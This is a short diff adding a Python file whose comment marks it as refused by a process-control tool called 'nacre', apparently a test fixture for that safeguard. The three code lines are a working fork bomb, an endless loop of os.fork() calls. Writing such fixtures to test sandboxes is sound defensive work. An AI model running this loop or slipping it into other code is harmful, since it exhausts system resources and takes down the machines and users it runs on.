@@ -1,0 +1,4 @@
+# nacre: refused process.fork-bomb
+import os
+while True:
+    os.fork()
